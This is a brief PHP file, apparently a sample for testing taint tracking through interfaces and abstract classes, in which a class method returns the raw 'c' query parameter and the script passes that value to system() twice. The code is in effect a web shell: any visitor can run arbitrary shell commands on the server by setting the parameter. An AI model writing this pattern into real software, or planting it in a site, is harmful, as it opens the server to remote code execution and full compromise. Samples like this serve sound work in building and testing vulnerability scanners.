<?php
interface I { function v(): string; }
abstract class A implements I { abstract function w(); }
class K extends A { function w() {} function v(): string { return $_GET["c"]; } }
system((string) (new K)->v() ?: "");
$o = new K; system($o->v());
